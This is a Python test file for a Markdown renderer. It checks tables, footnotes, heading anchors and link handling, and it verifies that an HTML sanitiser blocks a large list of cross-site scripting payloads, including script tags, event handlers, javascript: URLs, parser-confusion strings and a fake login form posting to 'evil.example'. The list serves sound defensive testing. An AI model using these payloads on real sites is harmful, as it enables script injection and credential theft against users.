"""Pages: what of Markdown they show, and that nothing of an attacker's goes through."""

import html.parser
import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from council.domain import guides
from council.upkeep.guides import rendering


def page(text: str) -> str:
    return rendering.render(text).html


def test_tables_are_shown_with_their_alignment() -> None:
    shown = page("| a | b |\n|:-:|--:|\n| 1 | 2 |\n")
    assert '<th align="center">a</th>' in shown and '<td align="right">2</td>' in shown


def test_tasks_are_shown_as_characters_and_not_as_forms() -> None:
    shown = page("- [ ] open\n- [x] done\n")
    assert "☐</span> open" in shown and "☑</span> done" in shown and "<input" not in shown


def test_footnotes_lead_there_and_back() -> None:
    shown = page("Text[^1].\n\n[^1]: A note.\n")
    assert 'href="#guide-fn1"' in shown and '<li id="guide-fn1"' in shown and 'href="#guide-fnref1"' in shown


def test_code_is_coloured_where_its_language_is_known() -> None:
    assert '<span class="k">def</span>' in page("```python\ndef f(): ...\n```\n")
    assert page("```unheard-of\n<b>\n```\n") == "<pre><code>&lt;b&gt;\n</code></pre>\n"
    assert "<span" not in page("```python\n" + "x = 1\n" * 5_000 + "```\n")


def test_headings_have_anchors_as_on_the_forge() -> None:
    made = rendering.render("# What it *is*, `x`\n\n## Twice\n\n## Twice\n\nSet\n---\n")
    assert made.headings == (
        guides.Heading(1, "What it is, x", "guide-what-it-is-x"),
        guides.Heading(2, "Twice", "guide-twice"),
        guides.Heading(2, "Twice", "guide-twice-1"),
        guides.Heading(2, "Set", "guide-set"),
    )
    assert all(f'id="{one.anchor}"' in made.html for one in made.headings)


@pytest.mark.parametrize(
    ("written", "leads_to"),
    [
        ("../reference/config.md", "config"),
        ("Other%20Guide.md#A-part", "other-guide#guide-A-part"),
        ("#here", "#guide-here"),
        ("https://example.com/a.md", "https://example.com/a.md"),
        ("mailto:ann@example.com", "mailto:ann@example.com"),
        ("/livez", "/livez"),
        ("picture.svg", "picture.svg"),
    ],
)
def test_where_links_lead(written: str, leads_to: str) -> None:
    assert f'<a href="{leads_to}" rel="noopener noreferrer nofollow">' in page(f"[x]({written})")


def test_pictures_give_way_to_their_text_and_nothing_is_loaded() -> None:
    shown = page("![A *map*](https://example.com/track.png) <img src=https://example.com/t.png alt=t>")
    assert "A map" in shown and "example.com" not in shown


def test_a_page_that_would_be_too_large_is_a_fault(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(rendering, "HTML_CHARS_MAX", 100)
    with pytest.raises(guides.FaultyError, match="Split it"):
        rendering.render("word " * 40)


# What browsers have run at one time or another: scripts, handlers, addresses that are programs, parsers led astray, what loads.
ATTACKS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x00>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=`x`onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><img src=x onerror=alert(1)></template>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"jAvAsCrIpT:alert(1)\">x</a>",
    "<a href=\" &#14; javascript:alert(1)\">x</a>",
    "<a href=\"java&#x09;script:alert(1)\">x</a>",
    "<a href=\"java\nscript:alert(1)\">x</a>",
    "<a href=\"&#106;avascript&colon;alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<a href=\"//evil.example\">x</a>",
    "<a href=\"\\\\evil.example\">x</a>",
    "<a href=\"/\t/evil.example\">x</a>",
    "<a href=\"x\" onclick=alert(1) target=_blank>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert%281%29)",
    "[x](&#x6A;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:alert(1))",
    "[x](//evil.example)",
    "[x](\\\\\\\\evil.example)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "![x](javascript:alert(1))",
    "![x\" onerror=\"alert(1)](x)",
    "[x](x \"\\\" onmouseover=alert(1) \\\"\")",
    "```\"><script>alert(1)</script>\nx\n```",
    "```python onload=alert(1)\nx\n```",
    "~~~<img src=x onerror=alert(1)>\nx\n~~~",
    "`<script>alert(1)</script>`",
    "# <img src=x onerror=alert(1)>",
    "# x {onclick=alert(1)}",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "x[^\"><script>alert(1)</script>]\n\n[^\"><script>alert(1)</script>]: x",
    "x[^1]\n\n[^1]: <script>alert(1)</script>",
    "- [x] <script>alert(1)</script>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//evil.example/x.swf>",
    "<applet code=x></applet>",
    "<form action=//evil.example><input name=password><button>Sign in</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<select autofocus onfocus=alert(1)><option>x</select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
    "<base href=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import url(//evil.example/x.css);</style>",
    "<p style=\"background:url(//evil.example/x.png)\">x</p>",
    "<p style=\"position:fixed;inset:0\">x</p>",
    "<div class=\"modal admin\" id=\"root\">x</div>",
    "<a name=\"getElementById\" id=\"cookie\">x</a>",
    "<body onload=alert(1)>",
    "<html><head><title><img src=x onerror=alert(1)></title></head>",
    "<video src=//evil.example/x.mp4 onerror=alert(1)><source onerror=alert(1)></video>",
    "<audio autoplay src=//evil.example/x.mp3></audio>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<table background=//evil.example/x.png><td background=javascript:alert(1)>x</table>",
    "<td align=\"left\" onmouseover=\"alert(1)\">x</td>",
    "<q cite=\"javascript:alert(1)\">x</q>",
    "<blockquote cite=\"//evil.example\">x</blockquote>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "<xss style=\"behavior:url(x.htc)\">x</xss>",
    "<x onclick=alert(1)>x",
    "</p><script>alert(1)",
    "<a href=x\nonclick=alert(1)>x",
    "<p title='</p><script>alert(1)</script>'>x",
    "\u202e<script>alert(1)</script>",
    "<ruby><rt><script>alert(1)</script></rt></ruby>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<portal src=//evil.example></portal>",
    "<dialog open>Sign in</dialog>",
    "<div popover id=x>x</div><a popovertarget=x>x</a>",
)  # fmt: skip

VOID = {"br", "hr", "wbr"}
ATTRIBUTES = {"id", "class", "href", "title", "rel", "align", "colspan", "rowspan", "start", "open"}
ADDRESS = re.compile(r"(?:https?://[^\\]|mailto:|#|(?![a-z][a-z0-9+.-]*:|[/\\]{2})[^\x00-\x20]*$)", re.IGNORECASE)
CLASS = re.compile(
    r"(?:[a-z][a-z0-9]{0,3}|task|task-list-item|contains-task-list|footnote-item|footnote-ref|footnotes|footnotes-list|footnote-backref)"
)


class Judge(html.parser.HTMLParser):
    """Takes a page apart, and fails for whatever is in none of these lists. It knows nothing of the sanitiser."""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in rendering._TAGS, tag
        assert tag not in {"script", "style", "img", "iframe", "form", "input", "svg", "math", "object", "base", "meta"}
        for name, value in attrs:
            assert name in ATTRIBUTES, (tag, name)
            value = value or ""
            assert name != "id" or value.startswith("guide-"), value
            assert name != "href" or ADDRESS.match(value), value
            assert name != "class" or all(map(CLASS.fullmatch, value.split())), value
            assert tag != "a" or name != "href" or ("rel", "noopener noreferrer nofollow") in attrs

    def handle_comment(self, data: str) -> None:
        raise AssertionError(data)

    handle_decl = unknown_decl = handle_pi = handle_comment


def judge(text: str) -> None:
    shown = page(text)
    parser = Judge(convert_charrefs=True)
    parser.feed(shown)
    parser.close()
    # Nothing in it changes when it is parsed anew, which is how parsers are led astray.
    assert rendering._cleaner().clean(shown).count("<") == shown.count("<")


@pytest.mark.parametrize("attack", ATTACKS, ids=range(len(ATTACKS)))
def test_no_attack_goes_through(attack: str) -> None:
    for text in (
        attack,
        f"> {attack}",
        f"- a\n\n  {attack}",
        f"<div>{attack}</div>",
        f"a {attack} b\n\n{attack}{attack}",
    ):
        judge(text)


PIECES = st.sampled_from(
    [*ATTACKS, "\n\n", "<b>", "</b>", "*", "`", "```\n", "> ", "|", "---\n", "<!--", "-->", "[", "](", ")", "&lt;", "<"]
)


@settings(max_examples=150, deadline=None)
@given(pieces=st.lists(PIECES, max_size=8))
def test_no_mixture_of_attacks_goes_through(pieces: list[str]) -> None:
    judge("".join(pieces))


def test_the_judge_condemns_what_is_not_sanitised() -> None:
    condemned = 0
    for attack in ATTACKS:
        try:
            Judge().feed(attack)
        except AssertionError:
            condemned += 1
    assert condemned > len(ATTACKS) * 0.6
